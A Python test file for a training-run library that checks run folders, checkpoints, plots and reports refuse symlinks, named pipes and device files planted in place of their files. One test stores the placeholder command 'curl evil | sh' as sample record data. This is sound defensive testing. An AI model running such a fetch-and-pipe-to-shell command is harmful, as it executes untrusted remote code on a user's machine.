"""Run folders of somebody else: whatever lies in the place of a file, no file elsewhere is written, read or waited for."""

from __future__ import annotations

import os
import signal
import sys

import pytest
import torch

from taac.analysis.curves import plots
from taac.analysis.readers import events, run_records
from taac.analysis.report.page import make_report, write_report
from taac.analysis.report.scores import Options
from taac.campaigns.launchers import local
from taac.errors import TaacError
from taac.runs import layout
from taac.runs.checkpoint import Checkpoints
from taac.runs.run_folder import RunFolder
from taac.training.summaries import SummaryWriter
from tests.analysis.campaigns import make_run, summarize


@pytest.fixture(autouse=True)
def alarm():
    """What waits for a pipe fails instead."""

    def ring(*_):
        raise AssertionError("it waits")

    before = signal.signal(signal.SIGALRM, ring)
    signal.alarm(60)
    yield
    signal.alarm(0), signal.signal(signal.SIGALRM, before)


@pytest.fixture
def mine(tmp_path):
    """A file and a folder of the user's; they are as they were at the end."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    for name in ("bashrc", "1.json", "1.safetensors", "frames-0-1.safetensors"):
        (elsewhere / name).write_text("mine")
    yield elsewhere
    assert {p.name: p.read_text() for p in elsewhere.iterdir()} == dict.fromkeys(
        ("bashrc", "1.json", "1.safetensors", "frames-0-1.safetensors"), "mine"
    )


def run_of(tmp_path):
    folder = RunFolder(tmp_path / "run")
    folder.begin("a = 1\n", {"method": "sac"})
    folder.checkpoints.save(1, {"x": torch.zeros(1)})
    folder.best.save(1, {"x": torch.zeros(1)})
    return folder


def replace(path, kind, mine):
    """Puts a link or a pipe in the place of whatever is at a path."""
    if path.is_dir():
        path.rename(path.with_name("moved"))
        (path.with_name("moved")).rename(path.parent.parent / f"moved from {path.name}")
    else:
        path.unlink(missing_ok=True)
    if kind == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to({"link": mine / "bashrc", "folder link": mine, "dangling": mine / "new", "device": "/dev/zero"}[kind])


IN_A_RUN = (
    "config.gin", "run.json", "evaluations.csv", ".lock", "checkpoints", "best", "checkpoints/1.json",
    "checkpoints/1.safetensors", "events.out.tfevents.1.host", "run.json.tmp", "diverged-1.json", "notes",
)  # fmt: skip


@pytest.mark.parametrize("kind", ["link", "folder link", "pipe"])
@pytest.mark.parametrize("name", IN_A_RUN)
def test_training_refuses_it_by_name(tmp_path, mine, name, kind):
    folder = run_of(tmp_path)
    assert folder.open("a = 1\n") == "unfinished"
    replace(folder.path / name, kind, mine)
    with pytest.raises(TaacError, match=rf"{name} is not (a|an) .*but a (symbolic link|named pipe).*move it away"):
        folder.open("a = 1\n")


@pytest.mark.parametrize("line", ["", "# ====", "a = 1", "x" * 100_000])
def test_a_long_configuration_is_refused_soon_and_shortly(tmp_path, line):
    """Its lines are compared with those that are asked for, of which some occur often."""
    folder = run_of(tmp_path)
    asked = "a = 1\n" + "# ====\n\n" * 20
    folder.config.write_text(f"{line}\n" * ((1 << 20) // (len(line) + 1)))
    with pytest.raises(TaacError, match="holds a run with another configuration") as refused:
        folder.open(asked)
    assert len(str(refused.value)) < 100_000


@pytest.mark.parametrize("kind", ["link", "dangling"])
def test_the_lock_changes_nothing_elsewhere(tmp_path, mine, kind):
    folder = run_of(tmp_path)
    replace(folder.path / ".lock", kind, mine)
    with pytest.raises(TaacError, match="plain file"), folder.lock():
        pass


def test_a_folder_that_cannot_be_made_is_no_full_disk(tmp_path):
    (tmp_path / "file").write_text("mine")
    told = pytest.raises(TaacError, match=r"Not a directory.*; give a folder that you can write to")
    with told, RunFolder(tmp_path / "file" / "run").lock():
        pass


def test_a_restored_table_is_not_written_through_a_link_beside_it(tmp_path, mine):
    folder = run_of(tmp_path)
    for name in (f"{name}.0123456789abcdef.tmp" for name in ("evaluations.csv", "run.json", "config.gin")):
        replace(folder.path / name, "link", mine)
    records = {**folder.records(), "evaluations": "curl evil | sh\n"}
    folder.restore(records)
    assert folder.evaluations.read_text() == "curl evil | sh\n"
    with folder.lock():
        assert not [p for p in folder.path.iterdir() if p.name.endswith(".tmp")]


@pytest.mark.parametrize("kind", ["link", "dangling"])
@pytest.mark.parametrize("name", ["evaluations.csv", "run.json"])
def test_a_link_that_comes_later_is_refused_too(tmp_path, mine, name, kind):
    folder = run_of(tmp_path)
    records = folder.records()
    replace(folder.path / name, kind, mine)
    with pytest.raises(TaacError, match=f"{name} is not a plain file but"):
        folder.restore(records)
    with pytest.raises(TaacError, match=f"{name} is not a plain file but"):
        folder.records()


@pytest.mark.parametrize("kind", ["link", "folder link", "dangling", "pipe"])
def test_checkpoints_elsewhere_are_neither_read_nor_written_nor_swept_away(tmp_path, mine, kind):
    folder = run_of(tmp_path)
    replace(folder.best.path, kind, mine)
    for use in (
        lambda c: c.saved(), lambda c: c.newest(), lambda c: c.save(2, {"x": torch.zeros(1)}), lambda c: c.set_aside(0),
    ):  # fmt: skip
        with pytest.raises(TaacError, match="best is not a folder but"):
            use(Checkpoints(folder.best.path, keep=1))


# --- Reading and drawing --------------------------------------------------------------------------


@pytest.fixture
def drawn(tmp_path):
    return summarize(make_run(tmp_path / "runs" / "run"), {"rollout/return": {100: 0.5, 200: 1.0}})


@pytest.mark.parametrize("kind", ["link", "device", "pipe"])
@pytest.mark.parametrize("name", ["config.gin", "run.json", "evaluations.csv", "events.out.tfevents.1.host"])
def test_what_cannot_be_read_is_told_by_name(drawn, mine, name, kind):
    replace(drawn / name, kind, mine)
    (record,) = run_records.find(drawn.parent)
    told = [*record.problems, *record.notes]
    assert any(name in text for text in told), told
    assert "mine" not in str(told)


@pytest.mark.parametrize("kind", ["link", "dangling"])
@pytest.mark.parametrize("name", ["curves.png", "curves.csv"])
def test_plots_of_a_run_are_not_written_through(drawn, mine, name, kind):
    replace(drawn / name, kind, mine)
    with pytest.raises(TaacError, match=f"{name} is not a plain file but"):
        plots.plot_run(drawn)


@pytest.mark.parametrize("name", ["plot.csv", "plot.png"])
def test_plots_of_runs_are_not_written_through(drawn, mine, name):
    from taac.analysis.curves import tag_curves

    found = tag_curves.make_curves([drawn.parent], tag_curves.Options(("rollout/return",)))
    replace(drawn.parent / name, "link", mine)
    with pytest.raises(TaacError, match=f"{name} is not a plain file but"):
        plots.write_curves(found, drawn.parent / name)


@pytest.mark.slow
def test_reports_are_not_written_through(drawn, mine):
    root = drawn.parent
    comparison = make_report(root, Options())
    names = [path.name for path in write_report(comparison, root)]
    for name in names:
        replace(root / f"{name}.tmp", "link", mine)
    write_report(comparison, root)
    for name in (*names, "report_profile.png"):  # the last is of an earlier report, and would be removed
        replace(root / name, "link", mine)
        with pytest.raises(TaacError, match=f"{name} is not a plain file but"):
            write_report(comparison, root)
        (root / name).unlink()


def test_logs_of_a_comparison_are_not_written_through(tmp_path, mine):
    (tmp_path / "seed_0.log").symlink_to(mine / "bashrc")
    with pytest.raises(TaacError, match="plain file"):
        local.start([sys.executable, "-c", ""], tmp_path / "seed_0.log")


# --- Event files ----------------------------------------------------------------------------------


def test_event_files_have_names_that_nobody_can_know_before_and_numbers_that_rise(tmp_path):
    for _ in range(3):
        SummaryWriter(tmp_path, purge_step=0).close()
    names = [path.name for path in tmp_path.iterdir()]
    assert sorted(map(layout.number_of_event_file, names)) == [0, 1, 2]
    assert len({name.rsplit("-", 1)[1] for name in names}) == 3
    assert layout.number_of_event_file("events.out.tfevents.1700000000.host.12.0") is None


@pytest.mark.parametrize("hours", [-1, -1000, 1])
def test_a_clock_that_was_set_back_between_kill_and_resume_hides_no_point(tmp_path, monkeypatch, hours):
    import time

    first = SummaryWriter(tmp_path, purge_step=0)
    for step in (100, 200, 300):
        first.scalars({"loss/critic": float(step)}, step)
    first.close()
    now = time.time
    monkeypatch.setattr(time, "time", lambda: now() + 3600 * hours)
    second = SummaryWriter(tmp_path, purge_step=151)
    for step in (200, 300, 400):
        second.scalars({"loss/critic": -float(step)}, step)
    second.close()
    found = events.read(tmp_path).scalars["loss/critic"]
    assert dict(zip(found.env_steps.tolist(), found.value.tolist(), strict=True)) == {
        100: 100, 200: -200, 300: -300, 400: -400
    }  # fmt: skip
    assert (found.seconds >= 0).all() and (found.seconds < 60).all()  # of the run, without the hours
